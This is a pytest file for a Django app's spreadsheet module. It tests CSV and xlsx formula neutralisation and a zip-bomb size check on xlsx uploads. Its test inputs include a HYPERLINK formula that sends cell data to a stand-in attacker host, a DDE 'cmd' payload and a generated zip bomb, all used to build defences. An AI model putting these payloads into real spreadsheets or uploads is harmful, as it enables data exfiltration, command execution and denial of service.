"""core.spreadsheets: workbooks and csv files that never turn typed text into a formula, and the
check that refuses an xlsx unpacking to more than XLSX_MAX_UNPACKED before openpyxl opens it."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from ekinerja.core import spreadsheets
from ekinerja.core.spreadsheets import XlsxRejected, csv_cell, csv_writer, xlsx_check

FORMULA = '=HYPERLINK("http://attacker.example/?d="&B1,"Lihat")'


def _zip(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """200 KB that unpack to 201 MB (the shape of the auditor's bomb300.xlsx, smaller)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        with z.open("xl/sharedStrings.xml", "w") as f:
            chunk = b"A" * (1 << 20)
            for _ in range(201):
                f.write(chunk)
    data = buf.getvalue()
    assert len(data) < 300_000
    return data


def _real_xlsx() -> bytes:
    wb = openpyxl.Workbook()
    wb.active.append(["nip", "nama"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Siti Aminah", "Siti Aminah"),
        ("0011223344", "0011223344"),  # an account number
        ("-250000", "-250000"),  # text that is just a number stays a number
        ("+62 811", "'+62 811"),
        (1_250_000, 1_250_000),
        (-5, -5),
        (None, None),
        ("", ""),
    ],
)
def test_csv_cell_neutralises_formulas_only(value, expected):
    assert csv_cell(value) == expected


def test_csv_writer_rows_read_back_as_text_and_numbers():
    out = io.StringIO()
    w = csv_writer(out, lineterminator="\r\n")
    w.writerow(["nama", "jumlah"])
    w.writerows([[FORMULA, 1_250_000], ["Budi", 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["nama", "jumlah"], ["'" + FORMULA, "1250000"], ["Budi", "3"]]


def test_workbook_writes_text_as_text_and_formulas_only_on_purpose():
    buf = io.BytesIO()
    wb = spreadsheets.workbook(buf)
    ws = wb.add_worksheet("A")
    ws.write(0, 0, FORMULA)
    ws.write(0, 1, "https://attacker.example/")
    ws.write_row(1, 0, ["=1+1", 5])
    ws.write_formula(2, 0, "=SUM(B2:B2)")  # a formula meant as one still is
    wb.close()
    xml = zipfile.ZipFile(io.BytesIO(buf.getvalue())).read("xl/worksheets/sheet1.xml")
    assert re.findall(rb"<f>([^<]*)</f>", xml) == [b"SUM(B2:B2)"]
    assert b"<hyperlink" not in xml
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert (ws["A1"].value, ws["A1"].data_type) == (FORMULA, "s")
    assert (ws["A2"].value, ws["A2"].data_type) == ("=1+1", "s")
    assert ws["B2"].value == 5


def test_xlsx_check_passes_a_real_workbook_and_puts_an_upload_back():
    data = _real_xlsx()
    xlsx_check(data)
    upload = SimpleUploadedFile("a.xlsx", data)
    upload.seek(3)
    xlsx_check(upload)
    assert upload.tell() == 3
    assert openpyxl.load_workbook(upload).active["A1"].value == "nip"


def test_xlsx_check_refuses_a_zip_bomb_before_anything_is_unpacked(bomb):
    with pytest.raises(XlsxRejected) as err:
        xlsx_check(bomb)
    assert err.value.code == "too_large"
    assert err.value.messages == [
        "Isi berkas xlsx terlalu besar setelah diekstrak; pecah berkasnya."
    ]
    with pytest.raises(XlsxRejected):
        xlsx_check(SimpleUploadedFile("b.xlsx", bomb))
    small = _zip({"xl/workbook.xml": b"<w/>", "xl/x.xml": b"A" * 5000})
    xlsx_check(small)
    with pytest.raises(XlsxRejected):
        xlsx_check(small, max_unpacked=4096)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"PK\x03\x04 not really a zip", "damaged"),
        (b"", "damaged"),
        (_zip({"word/document.xml": b"<d/>"}), "not_workbook"),
    ],
)
def test_xlsx_check_refuses_what_is_not_a_workbook(data, code):
    with pytest.raises(XlsxRejected) as err:
        xlsx_check(data)
    assert err.value.code == code


def test_the_employee_import_refuses_a_bomb_without_opening_it(bomb, monkeypatch):
    """org.importer uses the same check: openpyxl is never asked to read the bomb."""
    import openpyxl as real

    from ekinerja.org import importer

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl opened the bomb")

    monkeypatch.setattr(real, "load_workbook", refuse)
    with pytest.raises(importer.ImportFileError, match="terlalu besar setelah diekstrak"):
        list(importer._xlsx_records(bomb))
